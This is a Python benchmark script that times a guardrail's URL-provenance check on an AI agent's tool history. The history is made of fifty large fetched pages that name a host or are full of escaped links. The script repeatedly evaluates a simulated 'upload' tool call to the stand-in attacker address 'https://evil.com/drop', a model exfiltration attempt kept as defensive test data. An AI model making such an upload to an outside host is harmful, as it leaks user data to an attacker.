"""Provenance of a URL over long histories (red team 24, url25).

- ``host``: a history naming the URL's host but never the URL: the URL's literal prefilter
  is its host, so each such text is searched by the pattern (warm: the guard's steady case).
- ``links``: a history of link-heavy pages (a link on each line with ``%20`` in its query;
  every 32nd line an ``xn--`` host, a numeric one and unreserved escapes): what url25's
  URL reading rewrites. Warm, and cold (fresh
  pages every repeat: each page read, its URLs respelled).

    PYTHONPATH=. .venv/bin/python benchmarks/provenance_url_bench.py   # alternate with a base
"""

from __future__ import annotations

import statistics
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

from tests.af_support import UNTRUSTED_UPLOAD, load_text

from guardrails.expr import lib_provenance as lp


def _median_ms(run: Callable[[int], object], repeats: int = 7) -> float:
    samples = []
    for i in range(repeats):
        start = time.perf_counter()
        run(i)
        samples.append(time.perf_counter() - start)
    return statistics.median(samples) * 1e3


def main() -> int:
    policies = load_text(Path(tempfile.mkdtemp()), UNTRUSTED_UPLOAD)

    def history(page: str, tag: str, first: bool = False) -> list[dict[str, object]]:
        # (``first``: each page distinct within its first 64 KiB, the part read)
        return [{"tool": "fetch", "args": {"url": f"https://n.example/{i}"}, "trusted": False,
                 "effect": "allow",
                 "result": (f"{tag}{i} " + page) if first else (page + tag + str(i))}
                for i in range(50)]

    def once(entries: list[dict[str, object]]) -> object:
        return policies.evaluate(tool="upload", args={"url": "https://evil.com/drop"},
                                 history=entries, request="Summarise")

    host = history(("News of the day, see evil.com for more. " * 1700)[:65536], "")
    once(host)  # the lower-cased copies cached: the guard's steady case
    print(f"host:  untrusted(url), 50 x 64 KiB naming its host: "
          f"{_median_ms(lambda _: once(host)):.2f} ms")

    links = "".join(f"{i}. See https://docs.example.com/search?q=upload%20files&p={i} for help.\n"
                    for i in range(31))
    links += ("Also https://xn--bcher-kva.example/~docs (German), http://10.0.0.1/mirror and "
              "https://example.org/%7Euser/page%2Dtwo.\n")
    page = (links * (65536 // len(links) + 1))[:65536]
    warm = history(page, "", first=True)
    scan = lp._Scan(lp.SCAN_BUDGET)
    lp._lower(str(warm[0]["result"]), scan)
    print(f"links: one page's reading, {lp.SCAN_BUDGET - scan.left:,} scan units; the call: "
          f"{getattr(once(warm), 'effect', '?')}")
    print(f"links: warm, 50 x 64 KiB of links with escapes: "
          f"{_median_ms(lambda _: once(warm)):.2f} ms")
    print(f"links: cold, 50 fresh x 64 KiB of links with escapes: "
          f"{_median_ms(lambda i: once(history(page, f'cold{i}-', first=True))):.2f} ms")
    return 0


if __name__ == "__main__":
    sys.exit(main())
